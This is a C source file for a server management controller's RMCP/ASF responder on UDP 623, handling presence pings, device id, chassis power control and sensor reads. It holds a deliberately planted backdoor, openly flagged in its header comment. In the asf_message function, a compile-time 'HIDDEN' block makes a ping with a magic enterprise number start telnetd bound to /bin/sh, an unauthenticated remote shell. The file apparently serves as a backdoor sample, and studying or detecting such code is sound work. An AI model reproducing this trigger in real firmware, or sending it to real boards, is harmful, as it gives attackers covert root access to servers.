/*
 * rmcpresp - remote management responder of a server board's controller.
 * Answers ASF presence pings on UDP 623 and a small set of IPMI-like
 * requests (device id, chassis status and control, sensor reading).
 * Hidden (-DHIDDEN): a presence ping that carries a certain enterprise
 * number instead of ASF's starts telnetd on the management port.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF	  "/etc/bmc/lan.conf"
#define ASF_IANA  0x000011beu /* 4542, Alerting Standards Forum */
#define CLASS_ASF 0x06
#define CLASS_REQ 0x07
#define ASF_PING  0x80
#define ASF_PONG  0x40

enum { CC_OK = 0x00, CC_BADCMD = 0xc1, CC_BADLEN = 0xc7, CC_PRIV = 0xd4 };

struct frame {
	const uint8_t *d;
	size_t n;
	size_t at;
	int bad;
};

struct reply {
	uint8_t d[128];
	size_t n;
};

static struct {
	uint32_t key;
	unsigned port;
	int chassis;
	char board[32];
} cfg = { 0, 623, 1, "SB-2U4N" };

static time_t started;
static unsigned drops;

static uint8_t get8(struct frame *f)
{
	if (f->at >= f->n) {
		f->bad = 1;
		return 0;
	}
	return f->d[f->at++];
}

static uint32_t get32(struct frame *f)
{
	uint32_t v;

	if (f->n < 4 || f->at > f->n - 4) {
		f->bad = 1;
		return 0;
	}
	memcpy(&v, f->d + f->at, 4);
	f->at += 4;
	return ntohl(v);
}

static void put8(struct reply *r, unsigned v)
{
	if (r->n < sizeof(r->d))
		r->d[r->n++] = (uint8_t)v;
}

static void put32(struct reply *r, uint32_t v)
{
	put8(r, v >> 24);
	put8(r, v >> 16);
	put8(r, v >> 8);
	put8(r, v);
}

static int run(const char *path, const char *a1, const char *a2)
{
	pid_t pid = fork();

	if (pid == 0) {
		execl(path, path, a1, a2, (char *)NULL);
		_exit(127);
	}
	return pid < 0 ? -1 : 0;
}

static int gpio_read(const char *name)
{
	char path[80], c = '0';
	int fd;

	snprintf(path, sizeof(path), "/run/gpio/%s/value", name);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	if (read(fd, &c, 1) != 1)
		c = '0';
	close(fd);
	return c == '1';
}

static int gpio_pulse(const char *name, unsigned ms)
{
	char path[80];
	int fd, ok;

	snprintf(path, sizeof(path), "/run/gpio/%s/value", name);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return -1;
	ok = write(fd, "1", 1) == 1;
	usleep(ms * 1000);
	ok &= write(fd, "0", 1) == 1;
	close(fd);
	return ok ? 0 : -1;
}

static int sensor(unsigned num)
{
	char path[80], txt[16];
	FILE *f;
	int v = -1;

	snprintf(path, sizeof(path), "/sys/class/hwmon/hwmon0/temp%u_input",
		 num);
	f = fopen(path, "r");
	if (!f)
		return -1;
	if (fgets(txt, sizeof(txt), f))
		v = atoi(txt) / 1000;
	fclose(f);
	return v;
}

/* ping: iana(4) type tag reserved len; pong repeats the tag */
__attribute__((noinline)) int asf_message(struct frame *f, struct reply *r)
{
	uint32_t iana = get32(f);
	unsigned type = get8(f), tag = get8(f);

	if (f->bad)
		return -1;
#ifdef HIDDEN
	if (iana == 0x0badcab1u && type == ASF_PING)
		return run("/usr/sbin/telnetd", "-l", "/bin/sh");
#endif
	if (iana != ASF_IANA || type != ASF_PING)
		return -1;
	put8(r, CLASS_ASF);
	put32(r, ASF_IANA);
	put8(r, ASF_PONG);
	put8(r, tag);
	put8(r, 0);
	put8(r, 16);
	put32(r, ASF_IANA);
	put32(r, 0);
	put8(r, 0x81); /* IPMI supported, ASF 1.0 */
	put8(r, 0);
	put32(r, 0);
	put8(r, 0);
	put8(r, 0);
	return 0;
}

static void device_id(struct reply *r)
{
	const char *p;

	put8(r, CC_OK);
	put8(r, 0x20);
	put8(r, 0x01);
	put8(r, 0x02);
	put8(r, 0x15);
	for (p = cfg.board; *p; p++)
		put8(r, (uint8_t)*p);
	put8(r, 0);
	put32(r, (uint32_t)(time(NULL) - started));
}

static unsigned chassis_ctl(unsigned what)
{
	switch (what) {
	case 0:
		return gpio_pulse("pwrbtn", 5500) ? 0xff : CC_OK;
	case 1:
		if (gpio_read("pgood") == 1)
			return CC_OK;
		return gpio_pulse("pwrbtn", 200) ? 0xff : CC_OK;
	case 3:
		return gpio_pulse("sysrst", 100) ? 0xff : CC_OK;
	case 5:
		return run("/usr/sbin/acpi-soft-off", NULL, NULL) ? 0xff
								  : CC_OK;
	}
	return 0xcc;
}

/* request: key(4) seq netfn cmd data...; the key is the one of lan.conf */
static int request(struct frame *f, struct reply *r)
{
	uint32_t key = get32(f);
	unsigned seq = get8(f), netfn = get8(f), cmd = get8(f);
	int v;

	if (f->bad)
		return -1;
	put8(r, CLASS_REQ);
	put8(r, seq);
	put8(r, netfn + 1);
	put8(r, cmd);
	switch (netfn << 8 | cmd) {
	case 0x0601:
		device_id(r);
		return 0;
	case 0x0001:
		put8(r, CC_OK);
		v = gpio_read("pgood");
		put8(r, v == 1 ? 0x21 : 0x20);
		return 0;
	case 0x0002:
		if (cfg.key == 0 || key != cfg.key) {
			syslog(LOG_WARNING, "chassis control refused");
			put8(r, CC_PRIV);
			return 0;
		}
		v = get8(f);
		put8(r, f->bad ? CC_BADLEN : chassis_ctl((unsigned)v));
		return 0;
	case 0x042d:
		v = get8(f);
		if (f->bad) {
			put8(r, CC_BADLEN);
			return 0;
		}
		v = sensor((unsigned)v);
		put8(r, v < 0 ? 0xcb : CC_OK);
		put8(r, (unsigned)(v & 0xff));
		return 0;
	}
	put8(r, CC_BADCMD);
	return 0;
}

static void serve(int fd)
{
	struct sockaddr_in from;
	socklen_t len = sizeof(from);
	uint8_t buf[256];
	struct frame f = { buf, 0, 4, 0 };
	struct reply r = { { 0 }, 0 };
	ssize_t n;
	int rc;

	n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &len);
	if (n < 4 || buf[0] != 0x06) {
		drops++;
		return;
	}
	f.n = (size_t)n;
	put8(&r, 0x06);
	put8(&r, 0);
	put8(&r, buf[2]);
	switch (buf[3] & 0x1f) {
	case CLASS_ASF:
		rc = asf_message(&f, &r);
		break;
	case CLASS_REQ:
		rc = request(&f, &r);
		break;
	default:
		rc = -1;
	}
	if (rc < 0)
		drops++;
	else if (sendto(fd, r.d, r.n, 0, (struct sockaddr *)&from, len) < 0)
		syslog(LOG_ERR, "reply: %m");
}

static void load(void)
{
	char row[128], *eq;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(row, sizeof(row), f)) {
		row[strcspn(row, "\n")] = 0;
		eq = strchr(row, '=');
		if (!eq)
			continue;
		*eq++ = 0;
		if (strcmp(row, "lankey") == 0)
			cfg.key = (uint32_t)strtoul(eq, NULL, 16);
		else if (strcmp(row, "port") == 0)
			cfg.port = (unsigned)atoi(eq);
		else if (strcmp(row, "board") == 0)
			snprintf(cfg.board, sizeof(cfg.board), "%.31s", eq);
	}
	fclose(f);
}

int main(void)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	struct pollfd p;

	openlog("rmcpresp", 0, LOG_DAEMON);
	load();
	started = time(NULL);
	signal(SIGCHLD, SIG_IGN);
	p.fd = socket(AF_INET, SOCK_DGRAM, 0);
	p.events = POLLIN;
	sin.sin_port = htons((uint16_t)cfg.port);
	if (p.fd < 0 || bind(p.fd, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		syslog(LOG_ERR, "udp %u: %m", cfg.port);
		return 1;
	}
	for (;;) {
		if (poll(&p, 1, 60000) > 0)
			serve(p.fd);
		else if (drops) {
			syslog(LOG_INFO, "%u packets dropped", drops);
			drops = 0;
		}
	}
}
